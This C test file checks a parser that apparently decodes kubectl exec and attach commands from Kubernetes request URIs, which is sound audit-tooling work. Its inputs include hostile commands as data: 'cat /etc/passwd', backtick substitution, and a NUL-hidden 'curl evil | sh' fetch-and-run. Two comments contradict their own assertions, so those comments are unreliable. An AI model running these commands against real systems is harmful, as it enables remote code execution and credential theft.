/* SPDX-License-Identifier: BSD-2-Clause */
/* kubectl exec / attach commands decoded from requestURI. */
#include <stdio.h>
#include <string.h>

#include "test.h"

static char out[4096];

static int
cmd(const char *uri)
{
	memset(out, 'X', sizeof(out));
	return k8a_exec_command(uri, out, sizeof(out));
}

static int
ctr(const char *uri)
{
	memset(out, 'X', sizeof(out));
	return k8a_exec_container(uri, out, sizeof(out));
}

K8A_TEST(exec_post_form)
{
	CHECK_EQ_INT(cmd("/api/v1/namespaces/ns/pods/p/exec?command=sh&command=-c&command=id&container=c"
			 "&stdin=true&stdout=true"), 3);
	CHECK_EQ_STR(out, "sh -c id");
	CHECK_EQ_INT(ctr("/api/v1/namespaces/ns/pods/p/exec?command=sh&command=-c&command=id&container=c"
			 "&stdin=true&stdout=true"), 1);
	CHECK_EQ_STR(out, "c");
}

K8A_TEST(exec_websocket_get_form)
{
	/* kubectl >= 1.30: the same query on a GET, container first */
	const char *uri = "/api/v1/namespaces/default/pods/nginx-7c5ddbdf54-x2x9z/exec?container=nginx"
			  "&command=%2Fbin%2Fsh&command=-c&command=echo+hello+world%3B+id&stdin=true"
			  "&stdout=true&tty=true";

	CHECK_EQ_INT(cmd(uri), 3);
	CHECK_EQ_STR(out, "/bin/sh -c 'echo hello world; id'");
	CHECK_EQ_INT(ctr(uri), 1);
	CHECK_EQ_STR(out, "nginx");
}

K8A_TEST(exec_percent_and_plus)
{
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?command=cat%20%2Fetc%2Fpasswd"), 1);
	CHECK_EQ_STR(out, "'cat /etc/passwd'");
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?command=%2fbin%2Fls&command=-la"), 2);
	CHECK_EQ_STR(out, "/bin/ls -la");
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?command=echo+hi"), 1);
	CHECK_EQ_STR(out, "'echo hi'");
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?command=a%2Bb"), 1);
	CHECK_EQ_STR(out, "a+b");
	/* malformed escapes stay as they are */
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?command=a%zzb&command=c%4"), 2);
	CHECK_EQ_STR(out, "a%zzb c%4");
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?command=%C3%A9t%C3%A9"), 1);
	CHECK_EQ_STR(out, "'\xc3\xa9t\xc3\xa9'");
}

K8A_TEST(exec_shell_quoting)
{
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?command=sh&command=-c&command=echo%20it%27s"), 3);
	CHECK_EQ_STR(out, "sh -c 'echo it'\\''s'");
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?command=echo&command=%22a%20b%22"), 2);
	CHECK_EQ_STR(out, "echo '\"a b\"'");
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?command=echo&command=%24HOME&command=%60id%60"), 3);
	CHECK_EQ_STR(out, "echo '$HOME' '`id`'");
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?command=printf&command="), 2);
	CHECK_EQ_STR(out, "printf ''");
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?command=a%3Bb&command=x%7Cy&command=%2A"), 3);
	CHECK_EQ_STR(out, "'a;b' 'x|y' '*'");
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?command=env&command=A=1,B=2:x@y"), 2);
	CHECK_EQ_STR(out, "env A=1,B=2:x@y");
}

K8A_TEST(exec_parameter_names_are_exact)
{
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?xcommand=1&commands=2&command=3&Command=4"), 1);
	CHECK_EQ_STR(out, "3");
	CHECK_EQ_INT(ctr("/api/v1/namespaces/n/pods/p/exec?containers=x&container=my%2Dapp&container=second"), 1);
	CHECK_EQ_STR(out, "my-app");
	CHECK_EQ_INT(ctr("/api/v1/namespaces/n/pods/p/exec?command=id"), 0);
	CHECK_EQ_STR(out, "");
}

K8A_TEST(exec_attach_and_no_command)
{
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/attach?container=c&stdin=true&stdout=true&tty=true"), 0);
	CHECK_EQ_STR(out, "");
	CHECK_EQ_INT(ctr("/api/v1/namespaces/n/pods/p/attach?container=c&stdin=true&stdout=true&tty=true"), 1);
	CHECK_EQ_STR(out, "c");
	/* attach never has a command, even if the query says so */
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/attach?command=id"), 0);
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec"), 0);
	CHECK_EQ_STR(out, "");
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/exec?"), 0);
}

K8A_TEST(exec_not_exec_uris)
{
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/log?container=c"), K8A_FAILED);
	CHECK_EQ_STR(out, "");
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p"), K8A_FAILED);
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/portforward?ports=80"), K8A_FAILED);
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods?labelSelector=exec"), K8A_FAILED);
	CHECK_EQ_INT(cmd("/api/v1/namespaces/n/pods/p/executor?command=id"), K8A_FAILED);
	CHECK_EQ_INT(cmd(""), K8A_FAILED);
	CHECK_EQ_INT(cmd(NULL), K8A_FAILED);
	CHECK_EQ_INT(ctr("/api/v1/namespaces/n/pods/p/log?container=c"), K8A_FAILED);
	CHECK_EQ_STR(out, "");
}

K8A_TEST(exec_output_truncated)
{
	char small[6];

	memset(small, 'X', sizeof(small));
	CHECK_EQ_INT(k8a_exec_command("/api/v1/namespaces/n/pods/p/exec?command=sh&command=-c&command=id",
		small, sizeof(small)), 3);
	CHECK_EQ_STR(small, "sh -c");
	memset(small, 'X', sizeof(small));
	CHECK_EQ_INT(k8a_exec_command("/api/v1/namespaces/n/pods/p/exec?command=sh", small, 1), 1);
	CHECK_EQ_INT(small[0], '\0');
	CHECK_EQ_INT(small[1], 'X');
	memset(small, 'X', sizeof(small));
	CHECK_EQ_INT(k8a_exec_command("/api/v1/namespaces/n/pods/p/exec?command=sh", small, 0), 1);
	CHECK_EQ_INT(small[0], 'X');
}

K8A_TEST(exec_pod_named_exec)
{
	/* GET /api/v1/namespaces/default/pods/exec reads the pod named
	 * "exec"; query_of() (exec.c) only checks that the path ends with
	 * "/exec", so this is reported as an exec with no command. */
	CHECK_EQ_INT(cmd("/api/v1/namespaces/default/pods/exec"), K8A_FAILED);
	CHECK_EQ_INT(cmd("/api/v1/namespaces/default/pods/attach"), K8A_FAILED);
	CHECK_EQ_INT(cmd("/apis/apps/v1/namespaces/default/deployments/exec"), K8A_FAILED);
}

K8A_TEST(exec_nul_byte_does_not_hide_arguments)
{
	/* command=sh%00 decodes to "sh\0": the NUL is copied into the
	 * shell-quoted line, which then ends, as a C string, after "sh" --
	 * the responder never sees "-c 'curl evil | sh'". */
	int n = cmd("/api/v1/namespaces/n/pods/p/exec?command=sh%00&command=-c&command=curl+evil+%7C+sh");

	CHECK_EQ_INT(n, 3);
	CHECK(strstr(out, "curl evil | sh") != NULL);
}

K8A_TEST(pct_decode)
{
	char dec[64], in[64];
	size_t n;

	n = k8a_pct_decode("arn%3Aaws%3Aiam%3A%3A1%3Arole%2Fa+b", 35, 0, dec);
	CHECK_EQ_STR(dec, "arn:aws:iam::1:role/a+b");
	CHECK_EQ_INT(n, 23);
	k8a_pct_decode("a+b%2B", 6, K8A_PCT_PLUS, dec);
	CHECK_EQ_STR(dec, "a b+");
	/* malformed or cut escapes stay; hex in either case */
	k8a_pct_decode("%zz%4%", 6, 0, dec);
	CHECK_EQ_STR(dec, "%zz%4%");
	k8a_pct_decode("%2f%2F", 6, 0, dec);
	CHECK_EQ_STR(dec, "//");
	/* only n bytes are read: the escape cut by n stays */
	k8a_pct_decode("x%41", 3, 0, dec);
	CHECK_EQ_STR(dec, "x%4");
	/* %00: a NUL byte counted in the length, or kept encoded */
	n = k8a_pct_decode("a%00b", 5, 0, dec);
	CHECK_EQ_MEM(dec, n, "a\0b", 3);
	n = k8a_pct_decode("a%00b", 5, K8A_PCT_KEEP_NUL, dec);
	CHECK_EQ_STR(dec, "a%00b");
	CHECK_EQ_INT(n, 5);
	/* any byte, UTF-8 or not; in place */
	snprintf(in, sizeof(in), "%%FF%%C3%%A9");
	n = k8a_pct_decode(in, strlen(in), 0, in);
	CHECK_EQ_MEM(in, n, "\xff\xc3\xa9", 3);
}
